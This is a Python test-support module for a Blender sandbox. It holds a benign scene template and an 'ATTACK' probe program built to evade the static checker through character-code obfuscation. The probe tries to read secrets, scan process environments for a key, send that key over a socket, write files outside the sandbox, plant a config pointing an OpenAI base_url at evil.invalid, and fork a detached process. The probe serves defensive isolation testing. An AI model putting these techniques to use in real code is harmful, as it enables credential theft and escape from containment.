"""Scene programs used by the sandbox tests (tiny real Blender scenes, rendered with Workbench)."""

from __future__ import annotations

SCENE = '''
import bpy
import os
bpy.ops.wm.read_factory_settings(use_empty=True)
sc = bpy.context.scene
sc.frame_start, sc.frame_end = 1, {frames}
bpy.ops.mesh.primitive_plane_add(size=20)
bpy.ops.rigidbody.object_add(type='PASSIVE')
bpy.ops.mesh.primitive_uv_sphere_add(location=(0, 0, 3))
ball = bpy.context.active_object
bpy.ops.rigidbody.object_add()
mat = bpy.data.materials.new("Red")
mat.diffuse_color = (0.8, 0.1, 0.1, 1.0)
ball.data.materials.append(mat)
bpy.ops.object.camera_add(location=(0, -12, 3), rotation=(1.45, 0, 0))
sc.camera = bpy.context.active_object
bpy.ops.object.light_add(type='SUN', location=(0, 0, 10))
sc.rigidbody_world.point_cache.frame_end = sc.frame_end
bpy.ops.ptcache.bake_all(bake=True)
sc.render.engine = 'BLENDER_WORKBENCH'
sc.render.resolution_x, sc.render.resolution_y, sc.render.resolution_percentage = {w}, {h}, 100
sc.render.image_settings.file_format = 'PNG'
sc.render.filepath = "//frames/"
bpy.ops.wm.save_as_mainfile(filepath=os.path.abspath("scene.blend"))
{render}
'''


def scene(frames: int = 3, w: int = 640, h: int = 360, render: str = "bpy.ops.render.render(animation=True)") -> str:
    return SCENE.format(frames=frames, w=w, h=h, render=render)


def codes(text: str) -> str:
    """`s(…)` call spelling `text` by character codes: no string constant for the static checker to read."""
    return "s(" + ", ".join(str(ord(c)) for c in text) + ")"


# A bypass program (SPEC §3, isolation wall): every class of side effect an escaped scene program could have, each attempted
# and reported on stdout as `PCGPROBE {json}`. It passes the static check on purpose (attribute names and paths
# spelled by character codes through a getattr trampoline): the checker is the friendly report, not the wall.
ATTACK = '''
import bpy
import os
import json
import time


def g(o, n):
    return getattr(o, n)


def s(*c):
    return "".join(chr(x) for x in c)


R = {{}}


def attempt(name, fn):
    try:
        R[name] = fn()
    except BaseException as e:
        R[name] = "blocked: " + type(e).__name__ + ": " + str(e)[:160]


SECRET = {secret}
REF = {ref}
OUTSIDE = {outside}
HOME = {home}
KEY = {key}
PORT = {port}
RUNNER_PID = {runner_pid}
sysm = g(os, {sys_})
builtins_mod = g(sysm, {modules})[{builtins}]
imp = g(builtins_mod, {import_})


def read_secret():
    with open(SECRET) as fh:
        return fh.read()


def texts_load(path):
    def fn():
        t = g(g(bpy.data, {texts}), {load})(path)
        return g(t, {as_string})()
    return fn


def environ_scan():
    found = []
    for pid in [str(os.getppid()), "1"] + os.listdir(s(47, 112, 114, 111, 99)):
        if not pid.isdigit():
            continue
        try:
            with open(s(47, 112, 114, 111, 99, 47) + pid + s(47, 101, 110, 118, 105, 114, 111, 110), "rb") as fh:
                if KEY.encode() in fh.read():
                    found.append(pid)
        except OSError:
            pass
    return "found in " + ",".join(sorted(set(found))) if found else "not found"


def network():
    sock_mod = imp(s(115, 111, 99, 107, 101, 116))
    c = g(sock_mod, {create_connection})((s(49, 50, 55, 46, 48, 46, 48, 46, 49), PORT), 3)
    c.sendall(KEY.encode())
    c.close()
    return "connected"


def write_outside():
    with open(OUTSIDE + s(47) + s(112, 121, 46, 116, 120, 116), "w") as fh:
        fh.write("escaped")
    return "written"


def write_outside_c():
    g(g(g(bpy, {ops}), {wm}), {save_as_mainfile})(filepath=OUTSIDE + s(47, 99, 46, 98, 108, 101, 110, 100), copy=True)
    return "written" if os.path.exists(OUTSIDE + s(47, 99, 46, 98, 108, 101, 110, 100)) else "not written"


def write_config():
    d = HOME + s(47, 46, 99, 111, 110, 102, 105, 103, 47) + s(112, 104, 121, 115, 99, 111, 100, 101, 103, 121, 109)
    os.makedirs(d, exist_ok=True)
    with open(d + s(47) + s(99, 111, 110, 102, 105, 103, 46, 116, 111, 109, 108), "w") as fh:
        fh.write("[providers.openai]\\nbase_url = 'http://evil.invalid/v1'\\n")
    return "written"


def detached_fork():
    pid = g(os, {fork})()
    if pid == 0:
        try:
            g(os, {setsid})()
            time.sleep({linger})
        finally:
            g(os, {_exit})(0)
    return "forked " + str(pid)


attempt("read_secret", read_secret)
attempt("texts_load_secret", texts_load(SECRET))
attempt("texts_load_reference", texts_load(REF))
attempt("reference_visible", lambda: str(os.path.exists(REF)))
attempt("environ", environ_scan)
attempt("runner_visible", lambda: str(os.path.exists(s(47, 112, 114, 111, 99, 47) + str(RUNNER_PID))))
attempt("network", network)
attempt("write_outside", write_outside)
attempt("write_outside_c", write_outside_c)
attempt("write_config", write_config)
attempt("detached_fork", detached_fork)
print("PCGPROBE " + json.dumps(R), flush=True)
'''


def attack(*, secret: str, ref: str, outside: str, home: str, key: str, port: int, runner_pid: int,
           linger: float = 60.0) -> str:
    names = {n: codes(v) for n, v in {
        "sys_": "sys", "modules": "modules", "builtins": "builtins", "import_": "__import__", "texts": "texts",
        "load": "load", "as_string": "as_string", "create_connection": "create_connection", "ops": "ops", "wm": "wm",
        "save_as_mainfile": "save_as_mainfile", "fork": "fork", "setsid": "setsid", "_exit": "_exit"}.items()}
    return ATTACK.format(secret=codes(secret), ref=codes(ref), outside=codes(outside), home=codes(home), key=codes(key),
                         port=int(port), runner_pid=int(runner_pid), linger=float(linger), **names)
